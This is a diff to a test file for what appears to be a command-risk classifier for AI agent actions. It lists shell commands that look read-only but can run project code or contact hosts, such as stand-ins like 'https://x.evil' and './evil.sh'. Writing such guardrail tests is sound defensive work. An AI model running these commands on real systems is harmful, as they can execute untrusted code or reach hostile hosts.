@@ -19,6 +19,22 @@ MODULES = [
     *("python3 -I -m json.tool a.json b.json", "python3 -I -m json.tool --indent 4 a.json b.json"),
     *("python3 -I -m sysconfig --generate-posix-vars", "python3 -m json.tool a.json .git/hooks/x"),
 ]
+OF_THE_PROJECT = [
+    *("rails routes", "bundle list", "flask routes", "alembic history", "mix app.tree", "fastlane lanes", "rake -T"),
+    *("swift package describe", "bazel query //...", "helmfile list", "serverless print", "lerna ls", "invoke -l"),
+    *(
+        "conan inspect .",
+        "mill show x",
+        "nimble dump",
+        "dune describe",
+        "hatch version",
+        "cargo tree",
+        "cargo metadata",
+    ),
+    *("ansible-inventory --list", "ansible-playbook --list-tasks x", "ansible-doc copy", "vagrant status"),
+    *("packer validate x", "ansible-config dump", "brew info ./x.rb", "brew info a/b/c", "brew cat x/y"),
+    *("terraform validate", "just --evaluate", "just --choose", "uv tree", "uv export"),
+]
 STARTED = [
     *("pip --python ./evil.sh list", "uv pip list --python ./evil.sh", "uv python find ./evil.sh"),
     *("uv tree --python ./evil.sh", "java -javaagent:x.jar -version", "java -version -javaagent:x.jar"),
@@ -79,12 +95,19 @@ FAR = [
     *("deno info https://x.evil/a.ts", "deno info npm:evil", "rpm -qp https://x.evil/a.rpm", "gem list -r"),
     *("kustomize build https://x.evil/a", "kubectl kustomize github.com/a/b", "gem list --remote x", "gem search x"),
     *("apt changelog x", "apt-get changelog x", "xmllint https://x.evil/a.xml", "hg log -R ssh://evil/x"),
+    *("qemu-img info nbd:x:1", "qemu-img info json:x", "jar tf a @x", "keytool -printcert -sslserver x.evil"),
     *("svn info https://x.evil", "kubectl version -s https://x.evil", "kubectl explain pods", "lspci -q"),
-    *("conda search x", "helm template x --repo https://x.evil y", "svn status -u", "git diff x@evil:y"),
+    *(
+        "conda search x",
+        "helm template x --repo https://x.evil y",
+        "svn status -u",
+        "git diff x@evil:y",
+        "git remote -v show x",
+    ),
 ]
 
 
-@rows("line", [*MODULES, *STARTED, *NEGATED, *FAR])
+@rows("line", [*MODULES, *OF_THE_PROJECT, *STARTED, *NEGATED, *FAR])
 def test_THR_shell_a_line_that_looks_as_if_it_read_is_not_low(line: str) -> None:
     assert risk_of(Action("process.exec", script=line)) != "low"
 
@@ -98,7 +121,7 @@ def test_THR_shell_a_line_that_looks_as_if_it_read_is_not_low(line: str) -> None
         *("git rev-parse --abbrev-ref HEAD", "git log -p -S'x y' -- a.py", "git ls-files -o --exclude-standard"),
         *("git log --format='%h %s'", "docker ps -a --format '{{.Names}}'", "docker logs --tail 5 x", "ps -ef"),
         *("systemctl status nginx --no-pager", "journalctl -u x -n 50", "tar -tzf a.tar.gz", "tmux ls", "rpm -qa"),
-        *("cargo tree -e features", "go version", "pip list", "apt list --installed"),
+        *("cargo locate-project", "go version", "pip list", "apt list --installed"),
         *("sort -t, -k2,2n a.csv", "rg -n x src", "fd -e rs", "jq -r .a a.json", "kubectl version --client"),
     ],
 )
